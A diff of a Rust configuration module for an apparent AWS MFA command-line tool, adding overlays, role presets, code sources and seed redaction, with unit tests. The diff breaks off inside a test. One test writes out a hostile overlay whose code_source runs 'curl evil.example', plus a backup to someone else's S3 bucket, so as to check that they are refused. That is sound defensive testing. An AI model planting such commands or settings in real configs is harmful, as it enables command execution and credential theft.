@@ -1,42 +1,323 @@
-use crate::Result;
+use super::credentials::ConflictPolicy;
+use super::lock::LockStrategy;
+use super::Paths;
+use crate::keys::KeyStore;
+use crate::sts::RegionalEndpoints;
+use crate::{redact, totp, Result};
 
 use anyhow::anyhow;
-use serde::Deserialize;
-use std::path::Path;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
 
-#[derive(Debug, Deserialize)]
+// Project-local overlay merged over mfa.yml when found in the working directory
+pub const LOCAL_CONFIG_FILE: &str = ".aws-mfa.yml";
+
+// One line naming a profile or role preset, looked up from the working directory upwards
+pub const PIN_FILE: &str = ".aws-mfa";
+
+#[derive(Debug, Default, Deserialize, Serialize)]
 pub struct Config {
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
     devices: Vec<Device>,
+    // Long-term profile used when -p is not given
+    pub profile: Option<String>,
+    // Role assumed when --role-arn is not given
+    pub role_arn: Option<String>,
+    // Named roles, e.g. for pinning with .aws-mfa
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    roles: BTreeMap<String, Role>,
+    // Profiles refreshed together with --group
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    groups: BTreeMap<String, Vec<String>>,
     pub backup_file: Option<String>,
+    pub backup_dir: Option<String>,
+    // Where cache.json and the MFA sessions are kept instead of ~/.aws/aws-mfa
+    pub cache_dir: Option<String>,
+    // Remote copy made before overwriting credentials, like s3://bucket/prefix/
+    pub backup: Option<String>,
     pub duration: Option<String>,
     pub mfa_profile: Option<String>,
+    pub output: Option<String>,
+    pub timeout: Option<String>,
+    pub verify: Option<bool>,
+    // lockfile where flock doesn't work, e.g. on NFS home directories
+    pub lock: Option<LockStrategy>,
+    // PEM certificates the aws CLI verifies TLS with, e.g. behind a proxy
+    pub ca_bundle: Option<String>,
+    // Checks the clock before generating TOTPs locally, like time.aws.com
+    pub ntp_server: Option<String>,
+    // How expirations are shown: relative, local, utc or a strftime format
+    pub time_format: Option<String>,
+    // error, suffix or overwrite when the mfa profile holds another's session
+    pub conflict_policy: Option<ConflictPolicy>,
+    // The file each setting was read from, like `duration` or `devices.work`
+    #[serde(skip)]
+    origins: BTreeMap<String, PathBuf>,
 }
 
 impl Config {
-    pub fn read() -> Result<Self> {
-        let path_yml = super::config_file("mfa.yml");
-        let path_yaml = super::config_file("mfa.yaml");
-
-        let path = if path_yml.exists() {
-            path_yml
-        } else if path_yaml.exists() {
-            path_yaml
-        } else {
-            return Err(anyhow!(
-                "Not Found config file: {} or {}",
-                path_yml.to_str().unwrap(),
-                path_yaml.to_str().unwrap(),
-            ));
-        };
+    pub fn read(paths: &Paths) -> Result<Self> {
+        let mut config = get_config(config_path(paths)?)?;
+
+        if let Some(pin) = find_pin(&std::env::current_dir()?) {
+            config = config.pin(&read_pin(&pin)?, &pin)?;
+        }
+
+        let local = Path::new(LOCAL_CONFIG_FILE);
+        if local.exists() {
+            return Ok(config.merge(get_overlay(local)?));
+        }
+        Ok(config)
+    }
 
+    // A single file, without the overlay and pin of the working directory.
+    pub fn from_path<P: AsRef<Path>>(path: P) -> Result<Self> {
         get_config(path)
     }
+
+    // Devices in lookup order.
+    pub fn devices(&self) -> &[Device] {
+        &self.devices
+    }
+
+    // The device used for the long-term profile.
+    pub fn device_for(&self, profile: &str) -> Option<&Device> {
+        self.devices.iter().find(|device| device.profile == profile)
+    }
+
+    // Role presets by name.
+    pub fn roles(&self) -> &BTreeMap<String, Role> {
+        &self.roles
+    }
+
+    // The roles assumed in turn to get into the role, ending with it: those of
+    // `via` of its preset first, if any.
+    pub fn role_chain(&self, role_arn: &str) -> Vec<String> {
+        let mut chain = self
+            .roles
+            .values()
+            .find(|role| role.arn == role_arn)
+            .map(|role| role.via.clone())
+            .unwrap_or_default();
+        chain.push(role_arn.to_string());
+        chain
+    }
+
+    // As one mfa.yml, with the settings of all the files merged. Redacted, the
+    // TOTP seeds are masked so it can be shared.
+    pub fn export(&self, redact: bool) -> Result<String> {
+        let mut value = serde_yaml::to_value(self)?;
+        drop_unset(&mut value);
+
+        if redact {
+            let devices = value
+                .get_mut("devices")
+                .and_then(serde_yaml::Value::as_sequence_mut);
+            for device in devices.into_iter().flatten() {
+                if let Some(seed) = device
+                    .get_mut("code_source")
+                    .and_then(|source| source.get_mut("seed"))
+                {
+                    *seed = redact::MASK.into();
+                }
+            }
+        }
+        serde_yaml::to_string(&value).map_err(anyhow::Error::new)
+    }
+
+    // The file a setting was read from, None when it is not set.
+    pub fn origin(&self, key: &str) -> Option<&Path> {
+        self.origins.get(key).map(PathBuf::as_path)
+    }
+
+    // The settings given in the file, by the names of their origins.
+    fn keys(&self) -> Vec<String> {
+        let settings = [
+            ("profile", self.profile.is_some()),
+            ("role_arn", self.role_arn.is_some()),
+            ("backup_file", self.backup_file.is_some()),
+            ("backup_dir", self.backup_dir.is_some()),
+            ("cache_dir", self.cache_dir.is_some()),
+            ("backup", self.backup.is_some()),
+            ("duration", self.duration.is_some()),
+            ("mfa_profile", self.mfa_profile.is_some()),
+            ("output", self.output.is_some()),
+            ("timeout", self.timeout.is_some()),
+            ("verify", self.verify.is_some()),
+            ("lock", self.lock.is_some()),
+            ("ca_bundle", self.ca_bundle.is_some()),
+            ("ntp_server", self.ntp_server.is_some()),
+            ("time_format", self.time_format.is_some()),
+            ("conflict_policy", self.conflict_policy.is_some()),
+        ];
+
+        settings
+            .iter()
+            .filter(|(_, set)| *set)
+            .map(|(key, _)| key.to_string())
+            .chain(
+                self.devices
+                    .iter()
+                    .map(|device| format!("devices.{}", device.profile)),
+            )
+            .collect()
+    }
+
+    // The config with each of its settings read from the file.
+    fn read_from(self, path: &Path) -> Self {
+        let origins = self
+            .keys()
+            .into_iter()
+            .map(|key| (key, path.to_path_buf()))
+            .collect();
+        Self { origins, ..self }
+    }
+
+    // Makes the named profile, or the role preset and its profile, the default.
+    fn pin(mut self, name: &str, path: &Path) -> Result<Self> {
+        if self.devices.iter().any(|device| device.profile == name) {
+            self.origins
+                .insert("profile".to_string(), path.to_path_buf());
+            return Ok(Self {
+                profile: Some(name.to_string()),
+                ..self
+            });
+        }
+
+        let role = self
+            .roles
+            .get(name)
+            .cloned()
+            .ok_or_else(|| anyhow!("Not Found profile or role in {}: {}", PIN_FILE, name))?;
+
+        if role.profile.is_some() {
+            self.origins
+                .insert("profile".to_string(), path.to_path_buf());
+        }
+        self.origins
+            .insert("role_arn".to_string(), path.to_path_buf());
+
+        Ok(Self {
+            profile: role.profile.or(self.profile),
+            role_arn: Some(role.arn),
+            ..self
+        })
+    }
+
+    // Values set in the overlay win, and its devices are looked up first.
+    // The overlay of the working directory has none, see Overlay.
+    fn merge(self, overlay: Config) -> Self {
+        let mut devices = overlay.devices;
+        devices.extend(self.devices);
+
+        let mut roles = self.roles;
+        roles.extend(overlay.roles);
+
+        let mut groups = self.groups;
+        groups.extend(overlay.groups);
+
+        let mut origins = self.origins;
+        origins.extend(overlay.origins);
+
+        Self {
+            devices,
+            profile: overlay.profile.or(self.profile),
+            role_arn: overlay.role_arn.or(self.role_arn),
+            roles,
+            groups,
+            backup_file: overlay.backup_file.or(self.backup_file),
+            backup_dir: overlay.backup_dir.or(self.backup_dir),
+            cache_dir: overlay.cache_dir.or(self.cache_dir),
+            backup: overlay.backup.or(self.backup),
+            duration: overlay.duration.or(self.duration),
+            mfa_profile: overlay.mfa_profile.or(self.mfa_profile),
+            output: overlay.output.or(self.output),
+            timeout: overlay.timeout.or(self.timeout),
+            verify: overlay.verify.or(self.verify),
+            lock: overlay.lock.or(self.lock),
+            ca_bundle: overlay.ca_bundle.or(self.ca_bundle),
+            ntp_server: overlay.ntp_server.or(self.ntp_server),
+            time_format: overlay.time_format.or(self.time_format),
+            conflict_policy: overlay.conflict_policy.or(self.conflict_policy),
+            origins,
+        }
+    }
+}
+
+// What .aws-mfa.yml may set. A cloned repository could otherwise run commands
+// with a device's code_source, or send the credentials to a backup bucket of its
+// own, so everything else stays in ~/.aws/mfa.yml.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Overlay {
+    profile: Option<String>,
+    role_arn: Option<String>,
+    #[serde(default)]
+    roles: BTreeMap<String, Role>,
+    duration: Option<String>,
+    mfa_profile: Option<String>,
+}
+
+// A role preset under `roles:`
+#[derive(Debug, Clone, Deserialize, Serialize)]
+pub struct Role {
+    pub arn: String,
+    // Long-term profile to assume it from
+    pub profile: Option<String>,
+    // Shown in CloudTrail, like deploy-tanaka
+    pub session_name: Option<String>,
+    // Roles assumed first, in order, each with the credentials of the one
+    // before, like one of a jump account
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub via: Vec<String>,
 }
 
-#[derive(Debug, Deserialize)]
-struct Device {
-    profile: String,
-    arn: String,
+// An MFA device under `devices:`
+#[derive(Debug, Clone, Deserialize, Serialize)]
+pub struct Device {
+    pub profile: String,
+    pub arn: String,
+    pub code_source: Option<CodeSource>,
+    // Length of the codes, 6 unless the device says 8
+    pub code_digits: Option<u32>,
+    // Profile the session of this device is written to, like work-mfa
+    pub output_profile: Option<String>,
+    // Where the long-term keys are kept instead of the credentials file
+    pub key_store: Option<KeyStore>,
+    // regional or legacy STS endpoint for GetSessionToken
+    pub sts_regional_endpoints: Option<RegionalEndpoints>,
+    // Role `aws-mfa assume-role` assumes with the session of this device
+    pub role_arn: Option<String>,
+}
+
+// Where to get the MFA code from when it is not given on the command line.
+#[derive(Clone, PartialEq, Eq, Deserialize, Serialize)]
+#[serde(tag = "type", rename_all = "lowercase")]
+pub enum CodeSource {
+    Prompt,
+    Totp { seed: String },
+    Op { item: String },
+    Pass { entry: String },
+    Ykman { account: String },
+    Command { run: String },
+    // A seed in the encrypted store, see `aws-mfa secret`
+    Secret { name: String },
+}
+
+// The seed is masked, so a Config or Options in logs or panics doesn't leak it.
+impl std::fmt::Debug for CodeSource {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Prompt => write!(f, "Prompt"),
+            Self::Totp { .. } => f.debug_struct("Totp").field("seed", &redact::MASK).finish(),
+            Self::Op { item } => f.debug_struct("Op").field("item", item).finish(),
+            Self::Pass { entry } => f.debug_struct("Pass").field("entry", entry).finish(),
+            Self::Ykman { account } => f.debug_struct("Ykman").field("account", account).finish(),
+            Self::Command { run } => f.debug_struct("Command").field("run", run).finish(),
+            Self::Secret { name } => f.debug_struct("Secret").field("name", name).finish(),
+        }
+    }
 }
 
 pub fn get_device_arn(profile: &str, config: &Config) -> Result<String> {
@@ -44,18 +325,266 @@ pub fn get_device_arn(profile: &str, config: &Config) -> Result<String> {
         .ok_or_else(|| anyhow!("Not Found mfa device arn for profile: {}", profile))
 }
 
+pub fn get_group(name: &str, config: &Config) -> Result<Vec<String>> {
+    match config.groups.get(name) {
+        Some(profiles) if !profiles.is_empty() => Ok(profiles.clone()),
+        Some(_) => Err(anyhow!("Empty group: {}", name)),
+        None => Err(anyhow!("Not Found group: {}", name)),
+    }
+}
+
+pub fn get_code_source(profile: &str, config: &Config) -> Option<CodeSource> {
+    config
+        .device_for(profile)
+        .and_then(|device| device.code_source.clone())
+}
+
+pub fn get_key_store(profile: &str, config: &Config) -> Option<KeyStore> {
+    config
+        .device_for(profile)
+        .and_then(|device| device.key_store)
+}
+
+pub fn get_sts_regional_endpoints(profile: &str, config: &Config) -> Option<RegionalEndpoints> {
+    config
+        .device_for(profile)
+        .and_then(|device| device.sts_regional_endpoints)
+}
+
+pub fn get_role_arn(profile: &str, config: &Config) -> Option<String> {
+    config
+        .device_for(profile)
+        .and_then(|device| device.role_arn.clone())
+}
+
+pub fn get_code_digits(profile: &str, config: &Config) -> Result<u32> {
+    let digits = config
+        .device_for(profile)
+        .and_then(|device| device.code_digits)
+        .unwrap_or(totp::DIGITS);
+
+    match digits {
+        6 | 8 => Ok(digits),
+        _ => Err(anyhow!(
+            "Invalid code_digits for profile {}: {} (must be 6 or 8)",
+            profile,
+            digits
+        )),
+    }
+}
+
+// ~/.aws/mfa.yml, or mfa.yaml
+pub fn config_path(paths: &Paths) -> Result<PathBuf> {
+    let path_yml = paths.aws_dir.join("mfa.yml");
+    let path_yaml = paths.aws_dir.join("mfa.yaml");
+
+    if path_yml.exists() {
+        Ok(path_yml)
+    } else if path_yaml.exists() {
+        Ok(path_yaml)
+    } else {
+        Err(anyhow!(
+            "Not Found config file: {} or {}",
+            path_yml.to_str().unwrap(),
+            path_yaml.to_str().unwrap(),
+        ))
+    }
+}
+
+// Adds the device to mfa.yml, keeping the rest of the file as written.
+pub fn save_device(paths: &Paths, profile: &str, arn: &str) -> Result<()> {
+    save_devices(paths, &[(profile, arn)])
+}
+
+// Adds the devices as listed, before those already in mfa.yml.
+pub fn save_devices(paths: &Paths, devices: &[(&str, &str)]) -> Result<()> {
+    let path = save_path(paths);
+    let content = if path.exists() {
+        std::fs::read_to_string(&path).map_err(|e| anyhow!("{}: {}", e, path.to_str().unwrap()))?
+    } else {
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)?;
+        }
+        String::new()
+    };
+
+    let content = devices
+        .iter()
+        .rev()
+        .try_fold(content, |content, (profile, arn)| {
+            add_device(&content, profile, arn)
+        })?;
+
+    std::fs::write(&path, content)
+        .map_err(|e| anyhow!("Error writing to {}: {}", path.to_str().unwrap(), e))
+}
+
+// Removes the device of the profile from mfa.yml, keeping the rest of the file
+// as written.
+pub fn remove_device(paths: &Paths, profile: &str) -> Result<()> {
+    let path = config_path(paths)?;
+    let content =
+        std::fs::read_to_string(&path).map_err(|e| anyhow!("{}: {}", e, path.to_str().unwrap()))?;
+
+    std::fs::write(&path, drop_device(&content, profile)?)
+        .map_err(|e| anyhow!("Error writing to {}: {}", path.to_str().unwrap(), e))
+}
+
+// Leaves out the settings that are not set, rather than writing them as null.
+fn drop_unset(value: &mut serde_yaml::Value) {
+    match value {
+        serde_yaml::Value::Mapping(map) => {
+            let unset: Vec<serde_yaml::Value> = map
+                .iter()
+                .filter(|(_, v)| v.is_null())
+                .map(|(k, _)| k.clone())
+                .collect();
+            for key in unset {
+                map.remove(&key);
+            }
+            map.iter_mut().for_each(|(_, v)| drop_unset(v));
+        }
+        serde_yaml::Value::Sequence(seq) => seq.iter_mut().for_each(drop_unset),
+        _ => {}
+    }
+}
+
+// The devices: entry of the device, to paste into an mfa.yml.
+pub fn device_snippet(profile: &str, arn: &str) -> Result<String> {
+    add_device("", profile, arn)
+}
+
+// mfa.yml, or where it will be created on the first run.
+pub fn save_path(paths: &Paths) -> PathBuf {
+    config_path(paths).unwrap_or_else(|_| paths.aws_dir.join("mfa.yml"))
+}
+
+// Inserts the device at the top of the devices list, indented like the others.
+fn add_device(content: &str, profile: &str, arn: &str) -> Result<String> {
+    let lines: Vec<&str> = content.lines().collect();
+
+    let updated = match lines.iter().position(|line| line.trim_end() == "devices:") {
+        Some(i) => {
+            let indent = lines[i + 1..]
+                .iter()
+                .find(|line| !line.trim().is_empty() && !line.trim().starts_with('#'))
+                .filter(|line| line.trim_start().starts_with("- "))
+                .map(|line| &line[..line.len() - line.trim_start().len()])
+                .unwrap_or("  ");
+
+            let mut updated: Vec<String> = lines[..=i].iter().map(|l| l.to_string()).collect();
+            updated.push(format!("{}- profile: {}", indent, profile));
+            updated.push(format!("{}  arn: {}", indent, arn));
+            updated.extend(lines[i + 1..].iter().map(|l| l.to_string()));
+            updated.join("\n") + "\n"
+        }
+        None if !lines.iter().any(|line| line.starts_with("devices:")) => format!(
+            "devices:\n  - profile: {}\n    arn: {}\n{}",
+            profile, arn, content
+        ),
+        None => {
+            return Err(anyhow!(
+                "Cannot add the device to the devices in mfa.yml, add it by hand"
+            ))
+        }
+    };
+
+    // Make sure the edit gave the YAML that was meant.
+    let config: Config = serde_yaml::from_str(&updated).map_err(anyhow::Error::new)?;
+    if search_device_arn(profile, &config).as_deref() != Some(arn) {
+        return Err(anyhow!(
+            "Cannot add the device to the devices in mfa.yml, add it by hand"
+        ));
+    }
+    Ok(updated)
+}
+
+// Cuts the `- profile: NAME` item out of the devices list, up to the next line
+// indented no deeper than its dash.
+fn drop_device(content: &str, profile: &str) -> Result<String> {
+    let lines: Vec<&str> = content.lines().collect();
+    let indent = |line: &str| line.len() - line.trim_start().len();
+
+    let start = lines
+        .iter()
+        .position(|line| {
+            line.trim_start()
+                .strip_prefix("- profile:")
+                .is_some_and(|p| p.trim() == profile)
+        })
+        .ok_or_else(|| anyhow!("Not Found device of profile {} in mfa.yml", profile))?;
+    let end = lines[start + 1..]
+        .iter()
+        .position(|line| !line.trim().is_empty() && indent(line) <= indent(lines[start]))
+        .map_or(lines.len(), |i| start + 1 + i);
+
+    let updated: String = lines[..start]
+        .iter()
+        .chain(&lines[end..])
+        .map(|line| format!("{}\n", line))
+        .collect();
+
+    // Make sure the edit gave the YAML that was meant.
+    let before: Config = serde_yaml::from_str(content).map_err(anyhow::Error::new)?;
+    let after: Config = serde_yaml::from_str(&updated).map_err(anyhow::Error::new)?;
+    if after.device_for(profile).is_some() || after.devices.len() + 1 != before.devices.len() {
+        return Err(anyhow!(
+            "Cannot remove the device from the devices in mfa.yml, remove it by hand"
+        ));
+    }
+    Ok(updated)
+}
+
 fn get_config<P: AsRef<Path>>(path: P) -> Result<Config> {
     let conf = std::fs::read_to_string(&path)
         .map_err(|e| anyhow!("{}: {}", e, path.as_ref().to_str().unwrap()))?;
-    serde_yaml::from_str(&conf).map_err(anyhow::Error::new)
+    let config: Config = serde_yaml::from_str(&conf).map_err(anyhow::Error::new)?;
+
+    Ok(config.read_from(path.as_ref()))
+}
+
+fn get_overlay<P: AsRef<Path>>(path: P) -> Result<Config> {
+    let conf = std::fs::read_to_string(&path)
+        .map_err(|e| anyhow!("{}: {}", e, path.as_ref().to_str().unwrap()))?;
+    let overlay: Overlay = serde_yaml::from_str(&conf).map_err(|e| {
+        anyhow!(
+            "Refusing {}: {}: only profile, role_arn, roles, duration and mfa_profile can be set there",
+            path.as_ref().to_str().unwrap(),
+            e
+        )
+    })?;
+
+    let config = Config {
+        profile: overlay.profile,
+        role_arn: overlay.role_arn,
+        roles: overlay.roles,
+        duration: overlay.duration,
+        mfa_profile: overlay.mfa_profile,
+        ..Config::default()
+    };
+    Ok(config.read_from(path.as_ref()))
+}
+
+fn find_pin(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors()
+        .map(|dir| dir.join(PIN_FILE))
+        .find(|path| path.is_file())
+}
+
+fn read_pin(path: &Path) -> Result<String> {
+    let content =
+        std::fs::read_to_string(path).map_err(|e| anyhow!("{}: {}", e, path.to_str().unwrap()))?;
+
+    content
+        .lines()
+        .map(str::trim)
+        .find(|line| !line.is_empty())
+        .map(str::to_string)
+        .ok_or_else(|| anyhow!("Empty pin file: {}", path.to_str().unwrap()))
 }
 
 fn search_device_arn(profile: &str, config: &Config) -> Option<String> {
-    config
-        .devices
-        .iter()
-        .find(|device| device.profile == profile)
-        .map(|device| device.arn.clone())
+    config.device_for(profile).map(|device| device.arn.clone())
 }
 
 #[cfg(test)]
@@ -73,10 +602,15 @@ mod tests {
             let config = result.unwrap();
             assert_eq!(config.devices.len(), 1);
             assert!(config.backup_file.is_none());
+            assert!(config.backup_dir.is_none());
+            assert!(config.backup.is_none());
             assert!(config.duration.is_none());
             assert!(config.mfa_profile.is_none());
+            assert!(config.output.is_none());
+            assert!(config.timeout.is_none());
+            assert!(config.verify.is_none());
 
-            let device = config.devices.get(0).unwrap();
+            let device = config.devices.first().unwrap();
             assert_eq!(device.profile, "tanaka");
             assert_eq!(device.arn, "arn:aws:iam::012345678901:mfa/tanaka");
         }
@@ -89,16 +623,328 @@ mod tests {
             let config = result.unwrap();
             assert_eq!(config.devices.len(), 2);
             assert_eq!(config.backup_file, Some("test_bk".to_owned()));
+            assert_eq!(config.backup_dir, Some("~/Backups/aws".to_owned()));
+            assert_eq!(
+                config.backup,
+                Some("s3://my-bucket/aws-backups/".to_owned())
+            );
             assert_eq!(config.duration, Some("1000".to_owned()));
             assert_eq!(config.mfa_profile, Some("test_mfa".to_owned()));
+            assert_eq!(config.output, Some("credentials-file,dotenv".to_owned()));
+            assert_eq!(config.timeout, Some("10".to_owned()));
+            assert_eq!(config.verify, Some(true));
 
-            let device = config.devices.get(0).unwrap();
+            let device = config.devices.first().unwrap();
             assert_eq!(device.profile, "tanaka");
             assert_eq!(device.arn, "arn:aws:iam::012345678901:mfa/tanaka");
 
             let device = config.devices.get(1).unwrap();
             assert_eq!(device.profile, "satoh");
             assert_eq!(device.arn, "arn:aws:iam::012345678901:mfa/satoh");
+            assert_eq!(
+                device.code_source,
+                Some(CodeSource::Command {
+                    run: "echo 123456".to_owned()
+                })
+            );
+        }
+    }
+
+    mod get_group {
+        use super::*;
+
+        #[test]
+        fn it_returns_profiles_of_group() {
+            let config = get_config("mock/test-config2.yml").unwrap();
+            assert_eq!(
+                get_group("daily", &config).unwrap(),
+                vec!["tanaka".to_owned(), "satoh".to_owned()]
+            );
+        }
+
+        #[test]
+        fn it_fails_with_unknown_or_empty_group() {
+            let config = get_config("mock/test-config2.yml").unwrap();
+            assert!(get_group("release", &config).is_err());
+            assert!(get_group("empty", &config).is_err());
+        }
+    }
+
+    mod add_device {
+        use super::*;
+
+        const ARN: &str = "arn:aws:iam::012345678901:mfa/suzuki";
+
+        #[test]
+        fn it_adds_device_to_devices() {
+            let content = std::fs::read_to_string("mock/test-config2.yml").unwrap();
+            let updated = add_device(&content, "suzuki", ARN).unwrap();
+
+            let config: Config = serde_yaml::from_str(&updated).unwrap();
+            assert_eq!(config.devices.len(), 3);
+            assert_eq!(get_device_arn("suzuki", &config).unwrap(), ARN);
+            assert_eq!(config.mfa_profile, Some("test_mfa".to_owned()));
+        }
+
+        #[test]
+        fn it_adds_devices_when_missing() {
+            let updated = add_device("duration: 3600\n", "suzuki", ARN).unwrap();
+
+            let config: Config = serde_yaml::from_str(&updated).unwrap();
+            assert_eq!(get_device_arn("suzuki", &config).unwrap(), ARN);
+            assert_eq!(config.duration, Some("3600".to_owned()));
+        }
+
+        #[test]
+        fn it_fails_with_flow_style_devices() {
+            assert!(add_device("devices: []\n", "suzuki", ARN).is_err());
+        }
+    }
+
+    mod drop_device {
+        use super::*;
+
+        #[test]
+        fn it_removes_device_with_its_settings() {
+            let content = std::fs::read_to_string("mock/test-config2.yml").unwrap();
+            let updated = drop_device(&content, "satoh").unwrap();
+
+            let config: Config = serde_yaml::from_str(&updated).unwrap();
+            assert_eq!(config.devices.len(), 1);
+            assert!(config.device_for("tanaka").is_some());
+            assert_eq!(config.backup_file, Some("test_bk".to_owned()));
+            assert!(!updated.contains("echo 123456"));
+        }
+
+        #[test]
+        fn it_fails_with_unknown_profile() {
+            let content = std::fs::read_to_string("mock/test-config2.yml").unwrap();
+            assert!(drop_device(&content, "suzuki").is_err());
+        }
+    }
+
+    mod merge {
+        use super::*;
+
+        #[test]
+        fn it_merges_overlay_over_global_config() {
+            let global = get_config("mock/test-config2.yml").unwrap();
+            let overlay = get_overlay("mock/test-overlay.yml").unwrap();
+            let config = global.merge(overlay);
+
+            assert_eq!(config.profile, Some("tanaka".to_owned()));
+            assert_eq!(
+                config.role_arn,
+                Some("arn:aws:iam::123456789012:role/deploy".to_owned())
+            );
+            assert_eq!(config.duration, Some("3600".to_owned()));
+            assert_eq!(config.mfa_profile, Some("project".to_owned()));
+            assert_eq!(config.backup_file, Some("test_bk".to_owned()));
+            assert_eq!(config.timeout, Some("10".to_owned()));
+            assert!(config.roles.contains_key("deploy"));
+
+            assert_eq!(config.devices.len(), 2);
+            assert_eq!(
+                get_device_arn("tanaka", &config).unwrap(),
+                "arn:aws:iam::012345678901:mfa/tanaka"
+            );
+        }
+
+        #[test]
+        fn it_remembers_the_file_of_each_setting() {
+            let global = get_config("mock/test-config2.yml").unwrap();
+            let overlay = get_overlay("mock/test-overlay.yml").unwrap();
+            let config = global.merge(overlay);
+
+            let overlay = Path::new("mock/test-overlay.yml");
+            let global = Path::new("mock/test-config2.yml");
+            assert_eq!(config.origin("duration"), Some(overlay));
+            assert_eq!(config.origin("timeout"), Some(global));
+            assert_eq!(config.origin("devices.satoh"), Some(global));
+            assert_eq!(config.origin("cache_dir"), None);
+        }
+
+        #[test]
+        fn it_refuses_other_settings_in_overlay() {
+            for content in [
+                "devices:\n  - profile: work\n    arn: arn:aws:iam::123456789012:mfa/work\n    code_source:\n      type: command\n      run: curl evil.example\n",
+                "backup: s3://someone-elses-bucket/\n",
+                "ca_bundle: /tmp/ca.pem\n",
+                "lock: lockfile\n",
+            ] {
+                let path = std::env::temp_dir().join(format!(
+                    "aws-mfa-overlay-{}.yml",
+                    std::process::id()
+                ));
+                std::fs::write(&path, content).unwrap();
+
+                let err = get_overlay(&path).unwrap_err();
+                assert!(err.to_string().starts_with("Refusing"), "{}", err);
+            }
+        }
+    }
+
+    mod pin {
+        use super::*;
+
+        fn config() -> Config {
+            let mut config = get_config("mock/test-config2.yml").unwrap();
+            config.roles.insert(
+                "deploy".to_owned(),
+                Role {
+                    arn: "arn:aws:iam::012345678901:role/deploy".to_owned(),
+                    profile: Some("satoh".to_owned()),
+                    session_name: None,
+                    via: vec![],
+                },
+            );
+            config
+        }
+
+        #[test]
+        fn it_pins_device_profile() {
+            let config = config().pin("tanaka", Path::new(PIN_FILE)).unwrap();
+            assert_eq!(config.profile, Some("tanaka".to_owned()));
+            assert!(config.role_arn.is_none());
+        }
+
+        #[test]
+        fn it_pins_role_preset() {
+            let config = config().pin("deploy", Path::new(PIN_FILE)).unwrap();
+            assert_eq!(config.profile, Some("satoh".to_owned()));
+            assert_eq!(
+                config.role_arn,
+                Some("arn:aws:iam::012345678901:role/deploy".to_owned())
+            );
+            assert_eq!(config.origin("role_arn"), Some(Path::new(PIN_FILE)));
+        }
+
+        #[test]
+        fn it_fails_with_unknown_name() {
+            assert!(config().pin("suzuki", Path::new(PIN_FILE)).is_err());
+        }
+
+        #[test]
+        fn it_finds_pin_file_in_parent_directories() {
+            let root = std::env::temp_dir().join(format!("aws-mfa-pin-{}", std::process::id()));
+            let nested = root.join("a/b");
+            std::fs::create_dir_all(&nested).unwrap();
+            std::fs::write(root.join(PIN_FILE), "\n  tanaka  \n").unwrap();
+
+            let pin = find_pin(&nested).unwrap();
+            assert_eq!(pin, root.join(PIN_FILE));
+            assert_eq!(read_pin(&pin).unwrap(), "tanaka");
+
+            std::fs::remove_dir_all(&root).unwrap();
+        }
+    }
+
+    mod query {
+        use super::*;
+
+        #[test]
+        fn it_enumerates_devices_and_roles() {
+            let mut config = get_config("mock/test-config2.yml").unwrap();
+            config.roles.insert(
+                "deploy".to_owned(),
+                Role {
+                    arn: "arn:aws:iam::012345678901:role/deploy".to_owned(),
+                    profile: None,
+                    session_name: None,
+                    via: vec![],
+                },
+            );
+
+            let profiles: Vec<&str> = config
+                .devices()
+                .iter()
+                .map(|device| device.profile.as_str())
+                .collect();
+            assert_eq!(profiles, vec!["tanaka", "satoh"]);
+
+            let device = config.device_for("satoh").unwrap();
+            assert_eq!(device.arn, "arn:aws:iam::012345678901:mfa/satoh");
+            assert!(config.device_for("suzuki").is_none());
+
+            assert_eq!(
+                config.roles()["deploy"].arn,
+                "arn:aws:iam::012345678901:role/deploy"
+            );
+        }
+
+        #[test]
+        fn it_chains_roles_through_via() {
+            let mut config = get_config("mock/test-config2.yml").unwrap();
+            config.roles.insert(
+                "deploy".to_owned(),
+                Role {
+                    arn: "arn:aws:iam::012345678901:role/deploy".to_owned(),
+                    profile: None,
+                    session_name: None,
+                    via: vec!["arn:aws:iam::111111111111:role/jump".to_owned()],
+                },
+            );
+
+            assert_eq!(
+                config.role_chain("arn:aws:iam::012345678901:role/deploy"),
+                vec![
+                    "arn:aws:iam::111111111111:role/jump",
+                    "arn:aws:iam::012345678901:role/deploy"
+                ]
+            );
+            assert_eq!(
+                config.role_chain("arn:aws:iam::012345678901:role/other"),
+                vec!["arn:aws:iam::012345678901:role/other"]
+            );
+        }
+    }
+
+    mod export {
+        use super::*;
+
+        fn config() -> Config {
+            serde_yaml::from_str(
+                r#"
+devices:
+  - profile: tanaka
+    arn: arn:aws:iam::012345678901:mfa/tanaka
+    code_source:
+      type: totp
+      seed: JBSWY3DPEHPK3PXP
+timeout: "10"
+"#,
+            )
+            .unwrap()
+        }
+
+        #[test]
+        fn it_exports_merged_settings() {
+            let exported = config().export(false).unwrap();
+            assert!(!exported.contains("null"));
+
+            let config: Config = serde_yaml::from_str(&exported).unwrap();
+            assert_eq!(
+                get_code_source("tanaka", &config),
+                Some(CodeSource::Totp {
+                    seed: "JBSWY3DPEHPK3PXP".to_owned()
+                })
+            );
+            assert_eq!(config.timeout, Some("10".to_owned()));
+        }
+
+        #[test]
+        fn it_leaves_seeds_out_of_debug_output() {
+            let debug = format!("{:?}", config());
+            assert!(debug.contains("Totp { seed: \"****\" }"));
+            assert!(!debug.contains("JBSWY3DPEHPK3PXP"));
+        }
+
+        #[test]
+        fn it_masks_seeds_when_redacted() {
+            let exported = config().export(true).unwrap();
+            assert!(!exported.contains("JBSWY3DPEHPK3PXP"));
+            assert!(exported.contains(redact::MASK));
+            assert!(exported.contains("arn:aws:iam::012345678901:mfa/tanaka"));
         }
     }
 
@@ -118,21 +964,67 @@ mod tests {
             assert!(result.is_none());
         }
 
+        #[test]
+        fn it_finds_code_source_from_configs() {
+            let config = test_config();
+            assert_eq!(get_code_source("suzuki", &config), Some(CodeSource::Prompt));
+            assert!(get_code_source("tanaka", &config).is_none());
+            assert!(get_code_source("satoh", &config).is_none());
+        }
+
+        #[test]
+        fn it_finds_code_digits_from_configs() {
+            let config = test_config();
